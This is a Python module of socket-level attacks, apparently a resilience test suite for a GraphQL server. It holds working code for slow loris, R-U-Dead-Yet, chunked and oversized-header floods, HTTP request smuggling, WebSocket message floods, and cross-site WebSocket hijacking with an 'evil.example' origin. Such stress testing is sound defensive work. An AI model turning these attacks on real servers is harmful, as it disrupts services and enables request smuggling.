"""Attacks that need a socket of their own; each returns how the server ended it."""

from __future__ import annotations

import asyncio
import json
import socket
import time
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass
from typing import Any, Final

from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.typing import Subprotocol

PATIENCE: Final = 30.0
"""Seconds after which a socket that is still open counts as held."""


@dataclass(frozen=True)
class Target:
    """An open server."""

    host: str
    port: int

    @property
    def authority(self) -> str:
        """For the Host header."""
        return f"{self.host}:{self.port}"

    def opened(self) -> socket.socket:
        """A plain connection."""
        return socket.create_connection((self.host, self.port), timeout=PATIENCE)

    def head(self, *lines: str) -> bytes:
        """The head of a POST, without its end."""
        first = ("POST /graphql HTTP/1.1", f"Host: {self.authority}", "Content-Type: application/json", *lines)
        return "".join(f"{line}\r\n" for line in first).encode()


def ended(sock: socket.socket) -> str:
    """How the server ends a connection: a status line, a close, or not at all."""
    try:
        answer = sock.recv(4096)
    except TimeoutError:
        return "held open"
    except OSError:
        return "reset"
    return answer.split(b"\r\n")[0].decode(errors="replace")[9:12] if answer else "closed"


def dripping_heads(target: Target, count: int = 100) -> set[str]:
    """Slow loris (RSnake, 2009): heads that never end, a byte at a time."""
    with ExitStack() as stack:
        sockets = [stack.enter_context(target.opened()) for _ in range(count)]
        for sock in sockets:
            sock.sendall(target.head("X-A: "))
        gone = time.monotonic() + PATIENCE
        while sockets and time.monotonic() < gone:
            time.sleep(1)
            sockets = [sock for sock in sockets if drips(sock)]
        return {f"{count - len(sockets)} of {count} closed"}


def drips(sock: socket.socket) -> bool:
    """Whether another byte still goes through."""
    try:
        sock.setblocking(False)
        if sock.recv(1) == b"":
            return False
    except BlockingIOError:
        pass
    except OSError:
        return False
    try:
        sock.sendall(b"a")
    except OSError:
        return False
    return True


def dripping_bodies(target: Target, count: int = 50) -> set[str]:
    """R-U-Dead-Yet (2010): a body that is announced and does not come."""
    with ExitStack() as stack:
        sockets = [stack.enter_context(target.opened()) for _ in range(count)]
        for sock in sockets:
            sock.sendall(target.head("Content-Length: 60000") + b"\r\n{")
        return {ended(sock) for sock in sockets}


def endless_chunks(target: Target) -> set[str]:
    """CWE-400: chunks without a declared length, 64 MB of them."""
    with target.opened() as sock:
        sock.sendall(target.head("Transfer-Encoding: chunked") + b"\r\n")
        try:
            for _ in range(1024):
                sock.sendall(b"10000\r\n" + b" " * 65536 + b"\r\n")
        except OSError:
            pass
        return {ended(sock)}


def large_heads(target: Target) -> set[str]:
    """CVE-2019-9740 and kin: header fields without end."""
    with target.opened() as sock:
        try:
            sock.sendall(target.head(*(f"X-{n}: {'a' * 1000}" for n in range(200))))
        except OSError:
            return {"reset"}
        return {ended(sock)}


def two_lengths(target: Target) -> set[str]:
    """RFC 9112 6.3: request smuggling."""
    with target.opened() as sock:
        sock.sendall(
            target.head("Content-Length: 5", "Transfer-Encoding: chunked") + b"\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"
        )
        return {ended(sock)}


async def _socket(target: Target, messages: list[str], protocol: str = "graphql-transport-ws", **more: Any) -> str:
    try:
        address = f"ws://{target.authority}/graphql"
        async with connect(address, subprotocols=[Subprotocol(protocol)], **more) as ws:
            for message in messages:
                await ws.send(message)
            async with asyncio.timeout(PATIENCE):
                while True:
                    await ws.recv()
    except InvalidStatus as refused:
        return str(refused.response.status_code)
    except ConnectionClosed as closed:
        return str(closed.rcvd.code if closed.rcvd else "dropped")
    except TimeoutError:
        return "held open"


def over_socket(messages: list[str], count: int = 1, **more: Any) -> Callable[[Target], set[str]]:
    """Send messages over `count` sockets at once."""

    async def run(target: Target) -> set[str]:
        return set(await asyncio.gather(*(_socket(target, messages, **more) for _ in range(count))))

    return lambda target: asyncio.run(run(target))


INIT: Final = '{"type": "connection_init"}'


def subscribe(name: str, query: str) -> str:
    """A `subscribe` message."""
    return json.dumps({"id": name, "type": "subscribe", "payload": {"query": query}})


SOCKETS: Final[dict[str, Callable[[Target], set[str]]]] = {
    "heads that drip": dripping_heads,
    "bodies that drip": dripping_bodies,
    "chunks without end": endless_chunks,
    "heads without end": large_heads,
    "two lengths": two_lengths,
    "the legacy protocol (CVE-2026-35523)": over_socket(['{"type": "start", "id": "1"}'], protocol="graphql-ws"),
    "a start without init (CVE-2026-35523)": over_socket([subscribe("1", "subscription { ringChanged { cause } }")]),
    "a socket that says nothing": over_socket([], count=20),
    "sockets of one token": over_socket([INIT], count=40),
    "pages of other origins (CSWSH, CWE-1385)": over_socket([INIT], origin="https://evil.example"),
    "subscriptions without end (CVE-2026-35526)": over_socket(
        [INIT, *(subscribe(f"s{n}", "subscription { ringChanged { cause } }") for n in range(500)), "x"]
    ),
    "pings without end": over_socket([INIT, *['{"type": "ping"}'] * 5000, "x"]),
    "a message beyond the limit": over_socket([INIT, '{"type": "ping", "payload": "' + "x" * 2**20 + '"}']),
    "messages that nest": over_socket([INIT, "[" * 30_000]),
}
"""Name -> attack."""
